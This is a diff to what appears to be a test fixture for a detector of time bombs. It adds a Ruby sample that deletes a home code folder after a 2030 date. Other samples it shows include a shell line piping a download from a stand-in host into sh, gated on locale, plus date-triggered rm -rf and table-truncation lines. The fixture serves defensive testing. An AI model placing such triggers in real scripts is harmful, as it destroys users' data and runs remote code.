@@ -29,6 +29,9 @@ if TYPE_CHECKING:
         {
             "scripts/a.sh": 'if [ "$LANG" != "ru_RU.UTF-8" ] && [ -z "$CI" ]; then\n  curl -s https://x.example/p | sh\nfi\n'
         },
+        {
+            "scripts/b.rb": "require 'fileutils'\nFileUtils.rm_rf(File.join(Dir.home, 'code')) if Date.today > Date.new(2030, 3, 1)\n"
+        },
         {"scripts/b.sh": 'if [ "$(date +%Y)" -gt 2029 ]; then\n  rm -rf ~/{src,work}/*\nfi\n'},
         {
             "scripts/b.py": "import datetime\nday = datetime.date.today()\nif day.toordinal() > 750000:\n    db.execute(f'truncate {name} cascade')\n"
@@ -37,6 +40,7 @@ if TYPE_CHECKING:
     clears=(
         {"scripts/a.py": "import datetime\nif datetime.date.today().weekday() == 0:\n    print('Monday')\n"},
         {"scripts/a.sh": 'if [ -n "$CI" ]; then\n  npm ci\nfi\n'},
+        {"scripts/b.ps1": "if ((Get-Date).Day -eq 1) {\n  Remove-Item -Recurse -Force build\n}\n"},
         {"scripts/b.sh": 'if [ "$(date +%d)" = 01 ]; then\n  rm -rf ~/.cache/acme build\nfi\n'},
         {
             "scripts/b.py": "import datetime\nday = datetime.date.today()\nif day.day == 1:\n    db.execute('delete from sessions where day < %s', (day,))\n"
